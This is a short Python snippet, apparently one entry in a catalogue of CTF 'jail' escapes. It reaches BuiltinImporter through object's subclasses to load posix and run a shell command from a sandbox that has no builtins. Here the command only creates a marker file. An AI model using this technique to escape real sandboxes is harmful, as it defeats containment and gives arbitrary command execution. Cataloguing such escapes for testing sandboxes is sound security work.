"""The importer of builtin modules, found below object, loads posix.

Known from: CTF jails
Effect: made
Jail: no builtins
"""
for cls in "".__class__.__base__.__subclasses__():
    if cls.__name__ == "BuiltinImporter":
        cls.load_module("posix").system(": > made")
